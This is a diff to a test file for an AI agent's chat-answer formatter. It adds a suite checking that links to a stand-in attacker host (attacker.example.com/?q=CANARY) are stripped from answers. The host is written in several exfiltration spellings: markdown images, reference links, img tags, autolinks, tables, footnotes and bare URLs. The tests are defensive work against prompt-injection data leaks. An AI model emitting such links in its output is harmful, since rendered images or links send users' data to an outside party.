@@ -2,7 +2,9 @@ import { createHash } from "node:crypto";
 import { readFile, symlink, writeFile } from "node:fs/promises";
 import { join } from "node:path";
 import { afterEach, describe, expect, it } from "vitest";
+import { formatMessage } from "../../src/channel/matrix/format.ts";
 import type { Decision } from "../../src/reply.ts";
+import type { Run } from "../../src/store/runs.ts";
 import { openScene, page, type Scene, type SceneOptions } from "../support/scene.ts";
 import { type ScriptedTurn, scriptedModel, type Turn } from "../support/scripted-model.ts";
 import { seededRandom } from "../support/seeded-random.ts";
@@ -159,6 +161,39 @@ describe("the web as a way out", () => {
     expect(one.requests).toEqual([site]);
     expect(one.questions).toHaveLength(2);
   });
+});
+
+describe("the answer as a way out", () => {
+  const url = "http://attacker.example.com/?q=CANARY";
+  const spellings = {
+    S09: `![x](${url})`,
+    "S10, reference": `[x][1]\n\n[1]: ${url}`,
+    "S10, image in HTML": `<img src="${url}">`,
+    "S10, autolink": `<${url}>`,
+    "S10, another host's name": `[http://${site}](${url})`,
+    "S10, table": `|a|\n|-|\n|[x](${url})|`,
+    "S10, footnote": `so[^1]\n\n[^1]: ${url}`,
+    S11: `see ${url} or attacker.example.com/?q=CANARY`,
+  };
+
+  it.each(Object.entries(spellings))(
+    "%s: has nothing in it that leads to where nobody named",
+    async (_name, spelling) => {
+      const answer = `${spelling}\n\nFrom [the page](http://${site}) and http://spices.org/list.`;
+      const one = await scene([readPage, answer], {
+        pages: { [site]: page("Soup", 'See <a href="http://spices.org/list">spices</a>.') },
+      });
+      await one.say(ask);
+      const { id: session } = one.store.sessions.current("main", "test:room");
+      const isAllowedLink = one.agent.isKnownAddress({ session } as Run);
+      for (const { body, formatted_body } of formatMessage(one.answers().at(-1) ?? "", { isAllowedLink })) {
+        expect(formatted_body).not.toMatch(/<img|(?:href|src)="[^"]*attacker/);
+        expect(`${body} ${formatted_body}`).not.toMatch(/attacker\.example/);
+        expect(formatted_body).toContain(`href="http://${site}"`);
+        expect(formatted_body).toContain('href="http://spices.org/list"');
+      }
+    },
+  );
 });
 
 describe("files as a way out", () => {
